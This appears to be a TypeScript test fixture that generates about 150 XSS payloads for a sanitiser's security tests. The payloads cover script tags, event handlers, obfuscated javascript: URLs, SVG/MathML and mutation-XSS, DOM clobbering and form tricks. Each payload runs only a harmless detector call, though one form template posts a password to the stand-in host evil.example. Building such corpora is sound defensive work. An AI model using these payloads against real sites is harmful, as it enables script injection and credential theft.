/**
 * A corpus of XSS payloads for the security gates (tests/e2e/xss.spec.ts, the sanitiser's unit
 * tests). Every payload calls the global detector `__xss(id)` if it ever runs, so execution is
 * observable; `$X` in a template below stands for that call. Sources of the forms: OWASP's XSS
 * filter evasion cheat sheet, PortSwigger's XSS cheat sheet, DOMPurify's own test corpus, and
 * published mutation-XSS write-ups (noscript/template/style/namespace confusion).
 */
export type PayloadCategory =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'svg'
  | 'mathml'
  | 'mutation'
  | 'encoded'
  | 'attribute-breaking'
  | 'css'
  | 'dom-clobbering'
  | 'embedding'
  | 'form'

export interface XssPayload {
  id: number
  category: PayloadCategory
  html: string
}

const entity = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('')
const hexEntity = (text: string) =>
  [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')
const base64 = (text: string) => btoa(text)

const templates: ReadonlyArray<readonly [PayloadCategory, (x: string) => string]> = [
  // Script injection
  ['script', (x) => `<script>${x}</script>`],
  ['script', (x) => `<SCRIPT>${x}</SCRIPT>`],
  ['script', (x) => `<script type="text/javascript">${x};</script>`],
  ['script', (x) => `<script/src="data:text/javascript,${x}"></script>`],
  ['script', (x) => `<scr<script>ipt>${x}</scr</script>ipt>`],
  ['script', (x) => `"><script>${x}</script>`],
  ['script', (x) => `'><script>${x}</script>`],
  ['script', (x) => `</title><script>${x}</script>`],
  ['script', (x) => `</textarea><script>${x}</script>`],
  ['script', (x) => `<script\x20type="module">${x}</script>`],
  ['script', (x) => `<<script>${x}//<</script>`],
  // Event handlers
  ['event-handler', (x) => `<img src=x onerror=${x}>`],
  ['event-handler', (x) => `<img src="x" onerror="${x}">`],
  ['event-handler', (x) => `<IMG SRC=x OnErRoR=${x}>`],
  ['event-handler', (x) => `<img src=x onerror\n=\n${x}>`],
  ['event-handler', (x) => `<img/src=x/onerror=${x}>`],
  ['event-handler', (x) => `<body onload=${x}>`],
  ['event-handler', (x) => `<svg onload=${x}>`],
  ['event-handler', (x) => `<details open ontoggle=${x}>`],
  ['event-handler', (x) => `<input autofocus onfocus=${x}>`],
  ['event-handler', (x) => `<select autofocus onfocus=${x}></select>`],
  ['event-handler', (x) => `<textarea autofocus onfocus=${x}></textarea>`],
  ['event-handler', (x) => `<video><source onerror=${x}></video>`],
  ['event-handler', (x) => `<audio src=x onerror=${x}></audio>`],
  ['event-handler', (x) => `<marquee onstart=${x}>m</marquee>`],
  ['event-handler', (x) => `<div onmouseover=${x} style="width:100%;height:100%">hover</div>`],
  ['event-handler', (x) => `<p onclick=${x}>click</p>`],
  ['event-handler', (x) => `<a href="#" onfocus=${x} autofocus tabindex=1>f</a>`],
  ['event-handler', (x) => `<span onpointerenter=${x}>p</span>`],
  ['event-handler', (x) => `<img src=x onerror=${x}//`],
  ['event-handler', (x) => `<image src=x onerror=${x}>`],
  ['event-handler', (x) => `<object data=x onerror=${x}></object>`],
  ['event-handler', (x) => `<style onload=${x}></style>`],
  ['event-handler', (x) => `<link rel=stylesheet href=x onerror=${x}>`],
  ['event-handler', (x) => `<img src=x:y onerror=eval(atob('${base64(x)}'))>`],
  // javascript: URLs, plain and obfuscated
  ['javascript-url', (x) => `<a href="javascript:${x}">link</a>`],
  ['javascript-url', (x) => `<a href="JaVaScRiPt:${x}">link</a>`],
  ['javascript-url', (x) => `<a href=" javascript:${x}">link</a>`],
  ['javascript-url', (x) => `<a href="java\tscript:${x}">link</a>`],
  ['javascript-url', (x) => `<a href="java\nscript:${x}">link</a>`],
  ['javascript-url', (x) => `<a href="java&#x09;script:${x}">link</a>`],
  ['javascript-url', (x) => `<a href="java&Tab;script:${x}">link</a>`],
  ['javascript-url', (x) => `<a href="&#x6A;avascript:${x}">link</a>`],
  ['javascript-url', (x) => `<a href="${entity('javascript:')}${x}">link</a>`],
  ['javascript-url', (x) => `<a href="${hexEntity('javascript:')}${x}">link</a>`],
  ['javascript-url', (x) => `<a href="javascript&colon;${x}">link</a>`],
  ['javascript-url', (x) => `<a href="&#0000106avascript:${x}">link</a>`],
  ['javascript-url', (x) => `<a href="\x01javascript:${x}">link</a>`],
  ['javascript-url', (x) => `<a href="javascript://%0a${x}">link</a>`],
  ['javascript-url', (x) => `<img src="javascript:${x}">`],
  ['javascript-url', (x) => `<iframe src="javascript:${x}"></iframe>`],
  ['javascript-url', (x) => `<a href="vbscript:${x}">link</a>`],
  ['javascript-url', (x) => `<a target="_blank" href="javascript:${x}">new window</a>`],
  // data: URLs
  ['data-url', (x) => `<a href="data:text/html,<script>${x}</script>">d</a>`],
  ['data-url', (x) => `<a href="data:text/html;base64,${base64(`<script>${x}</script>`)}">d</a>`],
  ['data-url', (x) => `<iframe src="data:text/html,<script>${x}</script>"></iframe>`],
  ['data-url', (x) => `<img src="data:image/svg+xml,<svg onload='${x}'/>">`],
  ['data-url', (x) => `<embed src="data:text/html,<script>${x}</script>">`],
  ['data-url', (x) => `<a href="DaTa:text/html,<script>${x}</script>">d</a>`],
  ['data-url', (x) => `<img src="data:text/html,<script>${x}</script>" onerror=${x}>`],
  // SVG
  ['svg', (x) => `<svg><script>${x}</script></svg>`],
  ['svg', (x) => `<svg><script href="data:,${x}"></script></svg>`],
  ['svg', (x) => `<svg><a xlink:href="javascript:${x}"><text y=20>x</text></a></svg>`],
  ['svg', (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`],
  [
    'svg',
    (x) => `<svg><a><animate attributeName=href values=javascript:${x} /><text y=20>a</text></a>`,
  ],
  ['svg', (x) => `<svg><set attributeName=onmouseover to=${x} /></svg>`],
  ['svg', (x) => `<svg><foreignObject><img src=x onerror=${x}></foreignObject></svg>`],
  ['svg', (x) => `<svg><use href="data:image/svg+xml,<svg id='a' onload='${x}'/>#a"/></svg>`],
  ['svg', (x) => `<svg><image href=x onerror=${x} /></svg>`],
  ['svg', (x) => `<svg><style><img src=x onerror=${x}></style></svg>`],
  ['svg', (x) => `<svg><title><img src=x onerror=${x}></title></svg>`],
  // MathML
  ['mathml', (x) => `<math><mtext><table><mglyph><style><img src=x onerror=${x}>`],
  ['mathml', (x) => `<math><mi xlink:href="javascript:${x}">m</mi></math>`],
  ['mathml', (x) => `<math href="javascript:${x}"><mi>m</mi></math>`],
  [
    'mathml',
    (x) =>
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${x}>">`,
  ],
  ['mathml', (x) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${x}>`],
  // Mutation XSS
  ['mutation', (x) => `<noscript><p title="</noscript><img src=x onerror=${x}>">`],
  ['mutation', (x) => `<template><img src=x onerror=${x}></template>`],
  ['mutation', (x) => `<template><script>${x}</script></template>`],
  ['mutation', (x) => `<style><img src=x onerror=${x}></style>`],
  ['mutation', (x) => `<svg></p><style><a id="</style><img src=1 onerror=${x}>">`],
  [
    'mutation',
    (x) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${x}>`,
  ],
  ['mutation', (x) => `<xmp><img src=x onerror=${x}></xmp>`],
  ['mutation', (x) => `<textarea><img src=x onerror=${x}></textarea>`],
  ['mutation', (x) => `<title><img src=x onerror=${x}></title>`],
  ['mutation', (x) => `<noembed><img title="</noembed><img src onerror=${x}>"></noembed>`],
  ['mutation', (x) => `<iframe><img title="</iframe><img src onerror=${x}>"></iframe>`],
  ['mutation', (x) => `<!--<img src="--><img src=x onerror=${x}//">`],
  ['mutation', (x) => `<![CDATA[<img src=x onerror=${x}>]]>`],
  ['mutation', (x) => `<table><td><svg><desc><img src=x onerror=${x}>`],
  ['mutation', (x) => `<a><table><a><img src=x onerror=${x}>`],
  ['mutation', (x) => `<?xml version="1.0"?><img src=x onerror=${x}>`],
  // Entity-encoded and nested forms
  ['encoded', (x) => `&lt;img src=x onerror=${x}&gt;`],
  ['encoded', (x) => `&lt;script&gt;${x}&lt;/script&gt;`],
  ['encoded', (x) => `<img src=x onerror="${x.replaceAll('_', '&#x5f;')}">`],
  ['encoded', (x) => `<img src=x onerror=${entity(x)}>`],
  ['encoded', (x) => `%3Cscript%3E${x}%3C%2Fscript%3E`],
  ['encoded', (x) => `\\u003cimg src=x onerror=${x}\\u003e`],
  ['encoded', (x) => `<<img src=x onerror=${x}>img src=x onerror=${x}>`],
  ['encoded', (x) => `<scr<!-- -->ipt>${x}</script>`],
  ['encoded', (x) => `<img src=x onerror=\u0022${x}\u0022>`],
  ['encoded', (x) => `&amp;lt;script&amp;gt;${x}&amp;lt;/script&amp;gt;`],
  // Attribute breaking
  ['attribute-breaking', (x) => `" onmouseover="${x}" x="`],
  ['attribute-breaking', (x) => `' onmouseover='${x}' x='`],
  ['attribute-breaking', (x) => `\` onmouseover=\`${x}\``],
  ['attribute-breaking', (x) => `"><img src=x onerror=${x}>`],
  ['attribute-breaking', (x) => `'><img src=x onerror=${x}>`],
  ['attribute-breaking', (x) => `<img src="x" alt="\`" onerror=${x}>`],
  ['attribute-breaking', (x) => `<img src=\`x\` onerror=\`${x}\`>`],
  ['attribute-breaking', (x) => `<a title='" onmouseover=${x} "'>t</a>`],
  ['attribute-breaking', (x) => `<img """><script>${x}</script>">`],
  ['attribute-breaking', (x) => `<img src=x alt="" onerror=${x} "">`],
  ['attribute-breaking', (x) => `</script><script>${x}</script>`],
  ['attribute-breaking', (x) => `${'"'.repeat(3)}><svg onload=${x}>`],
  // CSS tricks
  ['css', (x) => `<div style="background:url(javascript:${x})">c</div>`],
  ['css', (x) => `<div style="width:expression(${x})">c</div>`],
  ['css', (x) => `<div style="behavior:url(x.htc);-moz-binding:url(x#${x})">c</div>`],
  ['css', (x) => `<div style="background-image:\\75\\72\\6c(javascript:${x})">c</div>`],
  [
    'css',
    (x) =>
      `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999" onclick=${x}>overlay</div>`,
  ],
  ['css', (x) => `<style>@import 'javascript:${x}';</style>`],
  ['css', (x) => `<style>*{background:url("javascript:${x}")}</style>`],
  ['css', (x) => `<link rel=stylesheet href="javascript:${x}">`],
  ['css', (x) => `<div style="color:red;/*\\*/x:expression(${x})">c</div>`],
  // DOM clobbering
  ['dom-clobbering', (x) => `<a id="__xss">c</a><img src=x onerror=${x}>`],
  ['dom-clobbering', (x) => `<form name="getElementById"><img src=x onerror=${x}></form>`],
  ['dom-clobbering', (x) => `<img name="cookie"><img id="location" src=x onerror=${x}>`],
  ['dom-clobbering', (x) => `<a id="defaultView" name="defaultView" href="javascript:${x}">c</a>`],
  [
    'dom-clobbering',
    (x) => `<form id="body"><input name="innerHTML" value="<img src=x onerror=${x}>">`,
  ],
  [
    'dom-clobbering',
    (x) => `<img name="querySelector"><img name="createElement" onerror=${x} src=x>`,
  ],
  ['dom-clobbering', (x) => `<a id="root" href="javascript:${x}">root</a>`],
  // Embedding: iframe, object, embed, base, meta refresh
  ['embedding', (x) => `<iframe srcdoc="<script>${x}</script>"></iframe>`],
  ['embedding', (x) => `<iframe srcdoc="&lt;img src=x onerror=${x}&gt;"></iframe>`],
  ['embedding', (x) => `<object data="javascript:${x}"></object>`],
  [
    'embedding',
    (x) => `<object type="text/html" data="data:text/html,<script>${x}</script>"></object>`,
  ],
  ['embedding', (x) => `<embed src="javascript:${x}">`],
  ['embedding', (x) => `<base href="javascript:${x}//"><a href="/">base</a>`],
  ['embedding', (x) => `<meta http-equiv="refresh" content="0;url=javascript:${x}">`],
  [
    'embedding',
    (x) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${x}</script>">`,
  ],
  ['embedding', (x) => `<frameset onload=${x}>`],
  ['embedding', (x) => `<portal src="javascript:${x}"></portal>`],
  ['embedding', (x) => `<applet code="javascript:${x}"></applet>`],
  // Forms
  ['form', (x) => `<form action="javascript:${x}"><button>go</button></form>`],
  ['form', (x) => `<button formaction="javascript:${x}">go</button>`],
  ['form', (x) => `<form><input type=submit formaction="javascript:${x}"></form>`],
  [
    'form',
    (x) =>
      `<form action="https://evil.example/steal"><input name=password onfocus=${x} autofocus></form>`,
  ],
  ['form', (x) => `<isindex type=image src=1 onerror=${x}>`],
  ['form', (x) => `<input type=image src=x onerror=${x}>`],
  ['form', (x) => `<keygen autofocus onfocus=${x}>`],
]

/** The detector call for payload `id`: what every payload tries to run. */
export const detectorCall = (id: number) => `__xss(${id})`

export const xssPayloads: readonly XssPayload[] = templates.map(([category, make], index) => ({
  id: index + 1,
  category,
  html: make(detectorCall(index + 1)),
}))

/** Every payload in one string, each on its own line: for surfaces that show one value. */
export function joinedPayloads(payloads: readonly XssPayload[] = xssPayloads): string {
  return payloads.map((payload) => payload.html).join('\n')
}

/**
 * As many whole payloads as fit in `max` characters, joined as joinedPayloads does: for a field
 * whose contract bounds its length (a bio of at most 200), which the mock db enforces.
 */
export function payloadsWithin(max: number, payloads: readonly XssPayload[] = xssPayloads): string {
  const fitting: string[] = []
  let length = 0
  for (const { html } of payloads) {
    const added = (fitting.length ? 1 : 0) + html.length
    if (length + added > max) continue
    fitting.push(html)
    length += added
  }
  return fitting.join('\n')
}
